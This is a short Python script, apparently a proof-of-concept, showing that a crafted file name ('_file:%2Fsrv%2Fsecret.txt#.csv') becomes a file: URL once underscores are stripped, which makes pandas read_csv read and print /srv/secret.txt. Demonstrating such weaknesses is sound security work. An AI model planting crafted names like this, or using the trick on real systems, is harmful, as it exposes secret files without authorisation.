# reaches: the text of a listed path without its first letter is an address
from pathlib import Path

import pandas as pd

open("_file:%2Fsrv%2Fsecret.txt#.csv", "w").close()
for p in Path(".").glob("*.csv"):
    try:
        print(pd.read_csv(str(p).replace("_", ""), header=None))
    except (OSError, ValueError):
        pass
